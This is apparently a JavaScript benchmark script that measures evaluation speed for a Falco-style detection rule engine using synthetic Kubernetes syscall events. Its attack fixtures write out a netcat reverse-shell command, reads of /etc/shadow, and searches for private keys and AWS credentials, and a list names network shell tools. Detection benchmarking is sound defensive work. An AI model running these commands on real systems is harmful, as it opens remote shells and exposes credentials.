// Evaluation speed, warm and in-process, on dist/: (1) ns per evaluation of typical single checks on one typical
// event; (2) events per second for every enabled rule of falco_rules.yaml over a generated syscall event mix,
// with rules indexed by evt.type as Falco does (and, for comparison, every rule on every event).
import { readFileSync } from 'node:fs';
import { parse as parseYaml } from 'yaml';
import { compile, loadRules as loadRuleFiles, RuleEngine } from '../dist/index.js';
import { sharedUrl } from './corpus.mjs';

/** Anything the JIT cannot see through: results are added here so no evaluation is dead code. */
export let sink = 0;

// -------------------------------------------------------------------------------------------------------------
// Timing

const now = () => Number(process.hrtime.bigint());

/** Median of `runs` timings of `fn()` (after `warm` untimed calls), in ns per call. `fn` returns a number. */
function timeRuns(fn, { runs = 7, warm = 2 } = {}) {
  for (let i = 0; i < warm; i++) sink += fn();
  const t = [];
  for (let i = 0; i < runs; i++) {
    const start = now();
    sink += fn();
    t.push(now() - start);
  }
  t.sort((a, b) => a - b);
  return t[t.length >> 1];
}

/**
 * A loop of `n` evaluations of one check. Each check gets its own copy of the loop (`new Function`), so the call
 * site in the loop sees one target: we measure the check, not the polymorphism of a shared harness loop.
 */
function makeLoop() {
  return new Function('evaluate', 'ev', 'n', 'let hits = 0; for (let i = 0; i < n; i++) if (evaluate(ev)) hits++; return hits;');
}

// -------------------------------------------------------------------------------------------------------------
// 1. Single checks

const SHELLS_AND_TOOLS = [
  'bash', 'sh', 'zsh', 'dash', 'ksh', 'csh', 'tcsh', 'ash', 'fish', 'busybox', 'python', 'python3', 'perl', 'ruby',
  'node', 'php', 'nc', 'ncat', 'socat', 'curl', 'wget', 'ssh', 'scp', 'telnet', 'tmux', 'screen', 'sudo', 'su', 'awk', 'lua',
];

export const CHECKS = [
  'proc.name = bash',
  `proc.name in (${SHELLS_AND_TOOLS.join(', ')})`,
  'fd.name startswith /etc',
  'fd.name contains passwd',
  'evt.type = execve and proc.name = bash',
  'fd.name glob /etc/*',
  'proc.cmdline regex ".*curl.*"',
  'fd.sip = 10.0.0.1',
  'fd.net = 10.0.0.0/8',
  'proc.name contains anyof (a, b, c)',
  'join(proc.lineage, "->") contains bash->python',
  'tolower(proc.name) = bash',
  'not proc.name exists',
];

/**
 * One typical event, as Falco's JSON output_fields carry it: `bash` run by a python script from an SSH session,
 * with the file and connection fields set too so that every check has something to read. `proc.lineage` (our
 * extension) is not in the event: it is derived from proc.name, proc.pname and proc.aname[2..].
 */
export function typicalEvent() {
  return {
    'evt.num': 81237, 'evt.type': 'execve', 'evt.dir': '<', 'evt.res': 'SUCCESS', 'evt.rawres': 0,
    'evt.arg.flags': 'EXE_WRITABLE|EXE_LOWER_LAYER',
    'proc.name': 'bash', 'proc.exe': '/bin/bash', 'proc.exepath': '/usr/bin/bash',
    'proc.cmdline': 'bash -c curl -s https://example.com/install.sh', 'proc.args': '-c curl -s https://example.com/install.sh',
    'proc.pname': 'python3', 'proc.pexe': '/usr/bin/python3', 'proc.pcmdline': 'python3 deploy.py',
    'proc.aname[2]': 'bash', 'proc.aname[3]': 'sshd', 'proc.aname[4]': 'sshd', 'proc.aname[5]': 'systemd',
    'proc.cwd': '/home/alice/', 'proc.tty': 34816, 'proc.duration': 1200000,
    'user.name': 'alice', 'user.uid': 1000, 'container.id': 'host',
    'fd.num': 3, 'fd.type': 'ipv4', 'fd.typechar': '4', 'fd.name': '/etc/passwd',
    'fd.sip': '10.0.0.1', 'fd.cip': '10.0.0.7', 'fd.sport': 443, 'fd.cport': 51234, 'fd.l4proto': 'tcp',
  };
}

function singleChecks() {
  const ev = typicalEvent();
  // Each check with generated code (the default) and with the closures (the fallback), side by side.
  const compiled = CHECKS.map((text) => ({ text, cond: compile(text, { backend: 'codegen' }), closures: compile(text, { backend: 'closures' }), loop: makeLoop(), loopClosures: makeLoop() }));
  // Warm every check first, so that the evaluator's shared closures have seen all of them (as in a process that
  // loads many rules) before any is timed.
  for (const c of compiled) sink += c.loop(c.cond.evaluate, ev, 200_000) + c.loopClosures(c.closures.evaluate, ev, 200_000);
  const baseLoop = makeLoop();
  const out = {};
  const perCall = (loop, evaluate) => {
    // About 150 ms per timed run: tens of millions of evaluations for the fast checks, fewer for the slow ones.
    const probe = timeRuns(() => loop(evaluate, ev, 100_000), { runs: 3, warm: 1 }) / 100_000;
    const n = Math.round(150e6 / Math.max(probe, 0.5));
    return timeRuns(() => loop(evaluate, ev, n), { runs: 5, warm: 1 }) / n;
  };
  out['loop overhead ns'] = +perCall(baseLoop, () => true).toFixed(2);
  for (const c of compiled) {
    const ns = perCall(c.loop, c.cond.evaluate);
    const label = c.text.startsWith('proc.name in (') ? `proc.name in (${SHELLS_AND_TOOLS.length} names)` : c.text;
    out[`ns: ${label}${c.cond.evaluate(ev) ? '' : ' [false]'}`] = +ns.toFixed(2);
    out[`ns (closures): ${label}`] = +perCall(c.loopClosures, c.closures.evaluate).toFixed(2);
  }
  return out;
}

// -------------------------------------------------------------------------------------------------------------
// 2. The default ruleset

/** Lists, macros and enabled rules of a rules file, with Falco's append/override/enabled semantics. */
export function loadRules(rel = 'corpus/rules/falco_rules.yaml') {
  const lists = {};
  const macros = {};
  const rules = new Map();
  const appends = (it, key) => it.append === true || it.override?.[key] === 'append';
  for (const it of parseYaml(readFileSync(sharedUrl(rel), 'utf8')) ?? []) {
    if (it.list !== undefined) {
      lists[it.list] = appends(it, 'items') ? [...(lists[it.list] ?? []), ...(it.items ?? [])] : [...(it.items ?? [])];
    } else if (it.macro !== undefined) {
      macros[it.macro] = appends(it, 'condition') && macros[it.macro] !== undefined ? `${macros[it.macro]} ${it.condition}` : it.condition;
    } else if (it.rule !== undefined) {
      const prev = rules.get(it.rule);
      if (prev && it.condition === undefined) {
        if (it.enabled !== undefined) prev.enabled = it.enabled; // enable/disable an earlier rule
      } else if (prev && appends(it, 'condition')) {
        prev.condition = `${prev.condition} ${it.condition}`;
        if (it.enabled !== undefined) prev.enabled = it.enabled;
      } else if (it.condition !== undefined) {
        rules.set(it.rule, { name: it.rule, condition: it.condition, enabled: it.enabled !== false });
      }
    }
  }
  const enabled = [...rules.values()].filter((r) => r.enabled);
  return { lists, macros, rules: enabled, disabled: rules.size - enabled.length };
}

/** Falco's evt.type index: event type → rules that can match it, plus the rules that can match any type. */
export function indexRules(compiled) {
  const byType = new Map();
  const unrestricted = [];
  for (const r of compiled) {
    if (!r.eventTypes) {
      unrestricted.push(r);
      continue;
    }
    for (const t of r.eventTypes) {
      let list = byType.get(t);
      if (!list) byType.set(t, (list = []));
      list.push(r);
    }
  }
  return { byType, unrestricted };
}

// --- event mix --------------------------------------------------------------------------------------------------

function mulberry32(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const DOCKER_CAPS = 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP';
const ALL_CAPS = `${DOCKER_CAPS} CAP_DAC_READ_SEARCH CAP_LINUX_IMMUTABLE CAP_NET_BROADCAST CAP_NET_ADMIN CAP_IPC_LOCK CAP_IPC_OWNER CAP_SYS_MODULE CAP_SYS_RAWIO CAP_SYS_PTRACE CAP_SYS_PACCT CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_NICE CAP_SYS_RESOURCE CAP_SYS_TIME CAP_SYS_TTY_CONFIG CAP_LEASE CAP_AUDIT_CONTROL CAP_MAC_OVERRIDE CAP_MAC_ADMIN CAP_SYSLOG CAP_WAKE_ALARM CAP_BLOCK_SUSPEND CAP_AUDIT_READ CAP_PERFMON CAP_BPF CAP_CHECKPOINT_RESTORE`;

const HOST = { id: 'host' };
const C = {
  nginx: { id: '4f3c2b1a0e9d', image: 'docker.io/library/nginx', ns: 'web', privileged: false },
  orders: { id: '8a7b6c5d4e3f', image: 'registry.example.com/shop/orders', ns: 'shop', privileged: false },
  api: { id: '1d2e3f4a5b6c', image: 'registry.example.com/shop/api', ns: 'shop', privileged: false },
  front: { id: '6c5b4a3f2e1d', image: 'registry.example.com/shop/frontend', ns: 'shop', privileged: false },
  pg: { id: 'b1c2d3e4f5a6', image: 'docker.io/library/postgres', ns: 'shop', privileged: false },
  redis: { id: 'c3d4e5f6a7b8', image: 'docker.io/library/redis', ns: 'shop', privileged: false },
  proxy: { id: 'e5f6a7b8c9d0', image: 'registry.k8s.io/kube-proxy', ns: 'kube-system', privileged: true },
  fluentd: { id: 'f7a8b9c0d1e2', image: 'fluent/fluentd-kubernetes-daemonset', ns: 'kube-system', privileged: false },
  debug: { id: '0a1b2c3d4e5f', image: 'docker.io/library/ubuntu', ns: 'default', privileged: false },
  priv: { id: '2b3c4d5e6f70', image: 'docker.io/library/alpine', ns: 'default', privileged: true },
};

/**
 * Process profiles: `lineage` is parent first (proc.pname, proc.aname[2], …). `files` are paths the process
 * opens, `peers` the addresses it talks to (`ip:port`), `w` its share of the non-exec syscalls.
 */
function P(name, exe, args, lineage, c, more = {}) {
  return {
    name, exe, args, lineage, c, user: 'root', uid: 0, tty: 0, cwd: '/', w: 1, files: [], peers: [],
    pexe: more.pexe ?? `/usr/bin/${lineage[0] ?? ''}`, pcmdline: more.pcmdline ?? (lineage[0] ?? ''), ...more,
  };
}
const SHIM = ['containerd-shim', 'systemd'];
const PROCS = {
  systemd: P('systemd', '/usr/lib/systemd/systemd', '--system --deserialize 31', [], HOST, { w: 2, files: ['/proc/1/mountinfo', '/sys/fs/cgroup/system.slice/cgroup.procs', '/run/systemd/journal/socket'] }),
  journald: P('systemd-journal', '/usr/lib/systemd/systemd-journald', '', ['systemd'], HOST, { w: 4, files: ['/var/log/journal/4f1e/system.journal', '/proc/812/cmdline', '/proc/812/status'] }),
  rsyslogd: P('rsyslogd', '/usr/sbin/rsyslogd', '-n -iNONE', ['systemd'], HOST, { user: 'syslog', uid: 104, w: 3, files: ['/var/log/syslog', '/var/log/auth.log', '/var/log/kern.log'], writes: true }),
  kubelet: P('kubelet', '/usr/bin/kubelet', '--config=/var/lib/kubelet/config.yaml --kubeconfig=/etc/kubernetes/kubelet.conf', ['systemd'], HOST, { w: 8, files: ['/var/lib/kubelet/pods/6e2a/volumes', '/etc/kubernetes/kubelet.conf', '/sys/fs/cgroup/kubepods.slice/cpu.stat', '/proc/4242/stat'], peers: ['10.0.0.1:6443', '10.244.1.17:8080'] }),
  containerd: P('containerd', '/usr/bin/containerd', '', ['systemd'], HOST, { w: 4, files: ['/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db', '/run/containerd/containerd.sock', '/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/412/fs/etc/passwd'] }),
  sshd: P('sshd', '/usr/sbin/sshd', '-D', ['systemd'], HOST, { w: 2, files: ['/etc/ssh/sshd_config', '/etc/shadow', '/etc/passwd', '/var/log/auth.log'], peers: ['192.168.1.20:52144'] }),
  alice: P('bash', '/usr/bin/bash', '', ['sshd', 'sshd', 'systemd'], HOST, { user: 'alice', uid: 1000, tty: 34816, cwd: '/home/alice/', w: 2, files: ['/home/alice/.bashrc', '/home/alice/.bash_history', '/etc/profile', '/usr/share/terminfo/x/xterm-256color'] }),
  cron: P('cron', '/usr/sbin/cron', '-f', ['systemd'], HOST, { w: 1, files: ['/etc/crontab', '/var/spool/cron/crontabs/root'] }),
  exporter: P('node_exporter', '/usr/bin/node_exporter', '--path.rootfs=/host', ['systemd'], HOST, { user: 'nobody', uid: 65534, w: 4, files: ['/proc/stat', '/proc/meminfo', '/proc/diskstats', '/sys/class/net/eth0/statistics/rx_bytes', '/proc/net/dev'], peers: ['10.244.2.5:9090'] }),
  nginx: P('nginx', '/usr/sbin/nginx', '', ['nginx', ...SHIM], C.nginx, { user: 'nginx', uid: 101, w: 12, pcmdline: 'nginx -g daemon off;', pexe: '/usr/sbin/nginx', files: ['/usr/share/nginx/html/index.html', '/usr/share/nginx/html/static/app.3f2a.js', '/var/cache/nginx/proxy_temp/1/00/0000000001', '/etc/nginx/mime.types', '/var/log/nginx/access.log'], peers: ['10.244.1.23:8080', '10.244.1.24:8080'] }),
  orders: P('java', '/usr/lib/jvm/java-17-openjdk/bin/java', '-Xmx2g -jar /app/orders.jar --spring.profiles.active=prod', [...SHIM], C.orders, { user: 'app', uid: 1001, w: 14, cwd: '/app/', pexe: '/usr/bin/containerd-shim-runc-v2', files: ['/app/orders.jar', '/tmp/tomcat.8080.412/work', '/proc/self/stat', '/etc/resolv.conf', '/usr/lib/jvm/java-17-openjdk/lib/modules'], peers: ['10.244.1.30:5432', '10.244.1.31:6379', '10.96.0.10:53', '34.117.59.81:443'] }),
  api: P('gunicorn', '/usr/local/bin/python3.12', '/usr/local/bin/gunicorn -w 4 app:app', ['gunicorn', ...SHIM], C.api, { user: 'app', uid: 1001, w: 10, cwd: '/srv/', pcmdline: 'gunicorn /usr/local/bin/gunicorn -w 4 app:app', files: ['/srv/app/models.py', '/srv/app/__pycache__/views.cpython-312.pyc', '/etc/ssl/certs/ca-certificates.crt', '/tmp/wgunicorn-8x3k'], peers: ['10.244.1.30:5432', '10.244.1.31:6379', '10.96.0.10:53'] }),
  front: P('node', '/usr/local/bin/node', 'server.js', ['npm', ...SHIM], C.front, { user: 'node', uid: 1000, w: 8, cwd: '/usr/src/app/', pcmdline: 'npm start', pexe: '/usr/local/bin/npm', files: ['/usr/src/app/dist/main.js', '/usr/src/app/node_modules/react-dom/cjs/react-dom-server.node.production.min.js', '/etc/hosts'], peers: ['10.244.1.22:8000', '10.96.0.10:53'] }),
  pg: P('postgres', '/usr/lib/postgresql/16/bin/postgres', '', ['postgres', ...SHIM], C.pg, { user: 'postgres', uid: 999, w: 10, pexe: '/usr/lib/postgresql/16/bin/postgres', pcmdline: 'postgres -c config_file=/etc/postgresql/postgresql.conf', files: ['/var/lib/postgresql/data/base/16384/2619', '/var/lib/postgresql/data/pg_wal/000000010000000000000042', '/var/lib/postgresql/data/global/pg_control'], peers: ['10.244.1.18:43122'] }),
  redis: P('redis-server', '/usr/local/bin/redis-server', '*:6379', [...SHIM], C.redis, { user: 'redis', uid: 999, w: 6, pexe: '/usr/bin/containerd-shim-runc-v2', files: ['/data/dump.rdb', '/data/temp-4217.rdb'], peers: ['10.244.1.18:40022'] }),
  proxy: P('kube-proxy', '/usr/local/bin/kube-proxy', '--config=/var/lib/kube-proxy/config.conf --hostname-override=node-2', [...SHIM], C.proxy, { w: 3, files: ['/var/lib/kube-proxy/config.conf', '/run/xtables.lock', '/proc/net/ip_tables_names'], peers: ['10.96.0.1:443'] }),
  fluentd: P('ruby', '/usr/local/bin/ruby', '/usr/local/bundle/bin/fluentd -c /fluentd/etc/fluent.conf', ['tini', ...SHIM], C.fluentd, { w: 5, files: ['/var/log/containers/orders-7d9f_shop_java-1a2b.log', '/var/log/pods/shop_api-5c8d/gunicorn/0.log', '/var/log/syslog', '/fluentd/log/buffer.b5f1.log'], peers: ['10.244.3.9:9200'] }),
};
// Interactive containers the attacks use (they make no benign events).
const BOXES = {
  debug: P('bash', '/bin/bash', '', ['runc', ...SHIM], C.debug, { w: 0, cwd: '/root/' }),
  priv: P('sh', '/bin/sh', '', ['runc', ...SHIM], C.priv, { w: 0, cwd: '/' }),
};
for (const p of [...Object.values(PROCS), ...Object.values(BOXES)]) p.caps = p.uid !== 0 ? '' : p.c === HOST || p.c.privileged ? ALL_CAPS : DOCKER_CAPS;

/** Programs that start (execve): parent profile, new image. Weighted. */
const EXECS = [
  [6, () => ({ ...PROCS.alice, ...pick(['ls -la', 'git status', 'vim notes.md', 'kubectl get pods -n shop', 'ps aux', 'cat /var/log/syslog', 'less README.md', 'make test'].map(execOf)), lineage: ['bash', 'sshd', 'sshd', 'systemd'], pexe: '/usr/bin/bash', pcmdline: 'bash' })],
  [3, () => ({ ...PROCS.cron, name: 'sh', exe: '/bin/sh', args: '-c run-parts --report /etc/cron.hourly', lineage: ['cron', 'cron', 'systemd'], pexe: '/usr/sbin/cron', pcmdline: 'cron -f' })],
  [3, () => ({ ...PROCS.cron, name: 'logrotate', exe: '/usr/sbin/logrotate', args: '/etc/logrotate.conf', lineage: ['sh', 'run-parts', 'cron', 'systemd'], pexe: '/bin/sh', pcmdline: 'sh -c run-parts --report /etc/cron.daily' })],
  // Kubernetes exec probes: a shell with runc as parent, no terminal.
  [6, () => ({ ...PROCS.pg, name: 'sh', exe: '/bin/sh', args: '-c pg_isready -U postgres', lineage: ['runc', 'containerd-shim', 'systemd'], pexe: '/usr/bin/runc', pcmdline: 'runc --root /run/containerd/runc/k8s.io exec', user: 'postgres', uid: 999 })],
  [4, () => ({ ...PROCS.pg, name: 'pg_isready', exe: '/usr/lib/postgresql/16/bin/pg_isready', args: '-U postgres', lineage: ['sh', 'runc', 'containerd-shim', 'systemd'], pexe: '/bin/sh', pcmdline: 'sh -c pg_isready -U postgres' })],
  [4, () => ({ ...PROCS.redis, name: 'redis-cli', exe: '/usr/local/bin/redis-cli', args: 'ping', lineage: ['runc', 'containerd-shim', 'systemd'], pexe: '/usr/bin/runc', pcmdline: 'runc exec' })],
  [3, () => ({ ...PROCS.front, name: 'sh', exe: '/bin/sh', args: '-c git rev-parse HEAD', lineage: ['node', 'npm', ...SHIM], pexe: '/usr/local/bin/node', pcmdline: 'node server.js' })],
  [2, () => ({ ...PROCS.kubelet, name: 'iptables', exe: '/usr/sbin/iptables', args: '-w 5 -t nat -S KUBE-SERVICES', lineage: ['kubelet', 'systemd'], pexe: '/usr/bin/kubelet', pcmdline: 'kubelet' })],
  [2, () => ({ ...PROCS.containerd, name: 'runc', exe: '/usr/bin/runc', args: '--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process', lineage: ['containerd-shim', 'systemd'], pexe: '/usr/bin/containerd-shim-runc-v2', pcmdline: 'containerd-shim-runc-v2 -namespace k8s.io' })],
  [1, () => ({ ...PROCS.cron, name: 'apt-get', exe: '/usr/bin/apt-get', args: '-qq update', lineage: ['sh', 'apt.systemd.dai', 'systemd'], pexe: '/bin/sh' })],
  [1, () => ({ ...PROCS.cron, name: 'sh', exe: '/bin/sh', args: '-c /usr/lib/needrestart/apt-pinvoke', lineage: ['apt-get', 'sh', 'apt.systemd.dai', 'systemd'], pexe: '/usr/bin/apt-get', pcmdline: 'apt-get -qq upgrade' })],
];
function execOf(cmdline) {
  const i = cmdline.indexOf(' ');
  const name = i < 0 ? cmdline : cmdline.slice(0, i);
  return { name, exe: `/usr/bin/${name}`, args: i < 0 ? '' : cmdline.slice(i + 1) };
}

let rand = Math.random;
const pick = (a) => a[Math.floor(rand() * a.length)];
function weighted(pairs) {
  let total = 0;
  for (const [w] of pairs) total += w;
  let r = rand() * total;
  for (const [w, v] of pairs) if ((r -= w) < 0) return v;
  return pairs[pairs.length - 1][1];
}

/**
 * The fields of the process and its context, in one fixed order (so events share a hidden-class prefix). Fields
 * without a value (a host process has no container image) are left out, as they are absent from Falco's JSON.
 */
function base(p, type, num, fresh = false) {
  const ev = {};
  const set = (k, v) => {
    if (v !== undefined) ev[k] = v;
  };
  set('evt.num', num);
  set('evt.type', type);
  set('evt.dir', '<');
  set('evt.res', 'SUCCESS');
  set('evt.rawres', 0);
  set('proc.name', p.name);
  set('proc.exe', p.exe);
  set('proc.exepath', p.exepath ?? p.exe);
  set('proc.cmdline', p.args ? `${p.name} ${p.args}` : p.name);
  set('proc.args', p.args);
  set('proc.pname', p.lineage[0]);
  if (p.lineage.length) {
    set('proc.pexe', p.pexe);
    set('proc.pcmdline', p.pcmdline);
  }
  for (let i = 1; i < p.lineage.length; i++) set(`proc.aname[${i + 1}]`, p.lineage[i]);
  set('proc.cwd', p.cwd);
  set('proc.tty', p.tty);
  set('proc.duration', fresh ? 250_000 + Math.floor(rand() * 4e6) : 6e9 + Math.floor(rand() * 9e12));
  set('proc.is_exe_upper_layer', p.upper ?? false);
  set('proc.is_exe_from_memfd', p.memfd ?? false);
  set('user.name', p.user);
  set('user.uid', p.uid);
  set('thread.cap_effective', p.caps);
  set('container.id', p.c.id);
  set('container.image.repository', p.c.image);
  set('container.privileged', p.c.privileged);
  set('k8s.ns.name', p.c.ns);
  return ev;
}

function dirOf(path) {
  const i = path.lastIndexOf('/');
  return i <= 0 ? '/' : path.slice(0, i);
}

function withFile(ev, path, fd) {
  ev['fd.num'] = fd;
  ev['fd.type'] = 'file';
  ev['fd.typechar'] = 'f';
  ev['fd.name'] = path;
  ev['fd.nameraw'] = path;
  ev['fd.directory'] = dirOf(path);
  ev['fd.filename'] = path.slice(path.lastIndexOf('/') + 1);
  return ev;
}

function withSocket(ev, local, remote, { proto = 'tcp', fd = 7, outbound = true, name } = {}) {
  const [sip, sport] = (outbound ? remote : local).split(':');
  const [cip, cport] = (outbound ? local : remote).split(':');
  ev['fd.num'] = fd;
  ev['fd.type'] = 'ipv4';
  ev['fd.typechar'] = '4';
  ev['fd.name'] = `${cip}:${cport}->${sip}:${sport}`;
  ev['fd.l4proto'] = proto;
  ev['fd.sip'] = sip;
  ev['fd.cip'] = cip;
  ev['fd.sport'] = Number(sport);
  ev['fd.cport'] = Number(cport);
  ev['fd.connected'] = proto === 'tcp';
  ev['fd.name_changed'] = false;
  ev['fd.sip.name'] = name ?? '';
  return ev;
}

const LOCAL_IP = { [HOST.id]: '10.0.0.12' };
const localOf = (p) => `${LOCAL_IP[p.c.id] ?? `10.244.1.${(p.c.id.charCodeAt(0) % 200) + 10}`}:${32768 + Math.floor(rand() * 28000)}`;
const daemons = Object.values(PROCS).map((p) => [p.w, p]);
const withFiles = Object.values(PROCS).filter((p) => p.files.length).map((p) => [p.w, p]);
const withPeers = Object.values(PROCS).filter((p) => p.peers.length).map((p) => [p.w, p]);

/** Benign syscalls, weighted: what a busy Kubernetes node sends. */
const BENIGN = [
  [14, 'read', (n) => { const p = weighted(withFiles); return withFile(base(p, 'read', n), pick(p.files), 5 + Math.floor(rand() * 40)); }],
  [10, 'write', (n) => { const p = weighted(daemons); return p.peers.length && rand() < 0.5 ? withSocket(base(p, 'write', n), localOf(p), pick(p.peers)) : withFile(base(p, 'write', n), p.files[0] ?? '/dev/null', 4); }],
  [4, 'recvfrom', (n) => { const p = weighted(withPeers); return withSocket(base(p, 'recvfrom', n), localOf(p), pick(p.peers)); }],
  [4, 'sendto', (n) => { const p = weighted(withPeers); const dns = rand() < 0.5; const ev = withSocket(base(p, 'sendto', n), localOf(p), dns ? '10.96.0.10:53' : pick(p.peers), { proto: dns ? 'udp' : 'tcp' }); if (dns) { ev['fd.connected'] = false; ev['fd.name_changed'] = true; } return ev; }],
  [2, 'sendmsg', (n) => { const p = weighted(withPeers); return withSocket(base(p, 'sendmsg', n), localOf(p), pick(p.peers)); }],
  [16, 'openat', (n) => {
    const p = weighted(withFiles);
    const path = pick(p.files);
    const write = p.writes === true || path.includes('/log/') || path.includes('/tmp');
    const failed = rand() < 0.08;
    const ev = withFile(base(p, 'openat', n), path, failed ? -1 : 3 + Math.floor(rand() * 60));
    ev['evt.is_open_read'] = !write;
    ev['evt.is_open_write'] = write;
    ev['evt.arg.flags'] = write ? 'O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC' : 'O_RDONLY|O_CLOEXEC';
    if (failed) { ev['evt.res'] = 'ENOENT'; ev['evt.rawres'] = -2; } else ev['evt.rawres'] = ev['fd.num'];
    return ev;
  }],
  [3, 'open', (n) => { const p = weighted(withFiles); const ev = withFile(base(p, 'open', n), pick(p.files), 9); ev['evt.is_open_read'] = true; ev['evt.is_open_write'] = false; ev['evt.arg.flags'] = 'O_RDONLY'; ev['evt.rawres'] = 9; return ev; }],
  [8, 'close', (n) => { const p = weighted(withFiles); return withFile(base(p, 'close', n), pick(p.files), 9); }],
  [5, 'fstat', (n) => { const p = weighted(withFiles); return withFile(base(p, 'fstat', n), pick(p.files), 9); }],
  [3, 'mmap', (n) => base(weighted(daemons), 'mmap', n)],
  [4, 'futex', (n) => base(weighted(daemons), 'futex', n)],
  [4, 'epoll_wait', (n) => base(weighted(daemons), 'epoll_wait', n)],
  [2, 'nanosleep', (n) => base(weighted(daemons), 'nanosleep', n)],
  [2, 'getdents64', (n) => withFile(base(weighted(daemons), 'getdents64', n), '/proc', 6)],
  [3, 'clone', (n) => { const ev = base(weighted(daemons), 'clone', n); ev['evt.rawres'] = 20000 + Math.floor(rand() * 40000); ev['evt.res'] = String(ev['evt.rawres']); ev['evt.arg.flags'] = 'CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD'; return ev; }],
  [1, 'clone3', (n) => base(weighted(daemons), 'clone3', n)],
  [5, 'execve', (n) => { const p = weighted(EXECS)(); const ev = base(p, 'execve', n, true); ev['evt.arg.flags'] = 'EXE_WRITABLE|EXE_LOWER_LAYER'; return ev; }],
  [4, 'connect', (n) => {
    const p = weighted(withPeers);
    const peer = pick(p.peers);
    const ev = withSocket(base(p, 'connect', n), localOf(p), peer, { name: peer.startsWith('10.96.0.1:') ? 'kubernetes.default.svc.cluster.local' : '' });
    if (rand() < 0.3) { ev['evt.res'] = 'EINPROGRESS'; ev['evt.rawres'] = -115; }
    return ev;
  }],
  [3, 'accept4', (n) => { const p = weighted(withPeers); return withSocket(base(p, 'accept4', n), localOf(p), pick(p.peers), { outbound: false, fd: 12 }); }],
  [2, 'socket', (n) => { const ev = base(weighted(withPeers), 'socket', n); ev['evt.arg.domain'] = rand() < 0.7 ? 'AF_INET' : 'AF_UNIX'; ev['evt.rawres'] = 11; return ev; }],
  [1, 'dup2', (n) => { const p = weighted(withFiles); const ev = withFile(base(p, 'dup2', n), pick(p.files), 3); ev['evt.rawres'] = 10; return ev; }],
  [0.6, 'setuid', (n) => { const ev = base(PROCS.sshd, 'setuid', n); ev['evt.arg.uid'] = 1000; return ev; }],
  [0.6, 'fchmodat', (n) => { const p = weighted(withFiles); const ev = base(p, 'fchmodat', n); ev['evt.arg.filename'] = pick(p.files); ev['evt.arg.mode'] = '0644'; return ev; }],
  [0.5, 'mkdirat', (n) => { const p = weighted(withFiles); const ev = base(p, 'mkdirat', n); ev['evt.arg.path'] = `${dirOf(pick(p.files))}/tmp.${n}`; return ev; }],
  [0.8, 'unlinkat', (n) => { const p = weighted(withFiles); const ev = base(p, 'unlinkat', n); ev['evt.arg.name'] = `${dirOf(pick(p.files))}/tmp.${n}`; return ev; }],
  [0.5, 'renameat2', (n) => { const p = weighted(withFiles); const ev = base(p, 'renameat2', n); ev['evt.arg.oldpath'] = `/tmp/.x${n}`; ev['evt.arg.newpath'] = pick(p.files); return ev; }],
  [0.2, 'symlinkat', (n) => { const ev = base(PROCS.containerd, 'symlinkat', n); ev['evt.arg.target'] = '/var/lib/containerd/io.containerd.content.v1.content/blobs/sha256/1f'; ev['evt.arg.linkpath'] = '/run/containerd/current'; return ev; }],
  [0.1, 'linkat', (n) => { const ev = base(PROCS.pg, 'linkat', n); ev['evt.arg.oldpath'] = '/var/lib/postgresql/data/pg_wal/xlogtemp.412'; ev['evt.arg.newpath'] = '/var/lib/postgresql/data/pg_wal/000000010000000000000043'; return ev; }],
  [0.1, 'ptrace', (n) => { const ev = base({ ...PROCS.alice, name: 'strace', exe: '/usr/bin/strace', args: '-p 4242' }, 'ptrace', n); ev['evt.arg.request'] = 'PTRACE_PEEKDATA'; return ev; }],
];

/** Attacks: each event is meant to fire the rule named (sometimes others too). */
const ATTACKS = [
  ['Terminal shell in container', (n) => { const ev = base({ ...PROCS.api, name: 'bash', exe: '/bin/bash', args: '', lineage: ['runc', 'containerd-shim', 'systemd'], pexe: '/usr/bin/runc', pcmdline: 'runc exec -t', tty: 34817 }, 'execve', n, true); ev['evt.arg.flags'] = 'EXE_LOWER_LAYER'; return ev; }],
  ['Read sensitive file untrusted', (n) => { const ev = withFile(base({ ...BOXES.debug, ...execOf('cat /etc/shadow'), lineage: ['bash', 'runc', 'containerd-shim', 'systemd'], pexe: '/bin/bash', pcmdline: 'bash', user: 'root', uid: 0 }, 'openat', n), '/etc/shadow', 3); ev['evt.is_open_read'] = true; ev['evt.is_open_write'] = false; ev['evt.arg.flags'] = 'O_RDONLY'; ev['evt.rawres'] = 3; return ev; }],
  ['Read sensitive file trusted after startup', (n) => { const ev = withFile(base(PROCS.nginx, 'openat', n), '/etc/shadow', 14); ev['evt.is_open_read'] = true; ev['evt.is_open_write'] = false; ev['evt.arg.flags'] = 'O_RDONLY|O_CLOEXEC'; ev['evt.rawres'] = 14; return ev; }],
  ['Run shell untrusted', (n) => base({ ...PROCS.nginx, name: 'sh', exe: '/bin/sh', args: '-c id; uname -a', lineage: ['nginx', 'nginx', ...SHIM], pexe: '/usr/sbin/nginx', pcmdline: 'nginx' }, 'execve', n, true)],
  ['Netcat Remote Code Execution in Container', (n) => base({ ...PROCS.api, ...execOf('nc -e /bin/sh 203.0.113.9 4444'), lineage: ['sh', 'gunicorn', ...SHIM] }, 'execve', n, true)],
  ['Search Private Keys or Passwords', (n) => base({ ...PROCS.alice, name: 'grep', exe: '/usr/bin/grep', args: '-r "BEGIN RSA PRIVATE" /home /root', lineage: ['bash', 'sshd', 'sshd', 'systemd'] }, 'execve', n, true)],
  ['Find AWS Credentials', (n) => base({ ...BOXES.debug, ...execOf('find / -path */.aws/credentials'), lineage: ['bash', 'runc', ...SHIM] }, 'execve', n, true)],
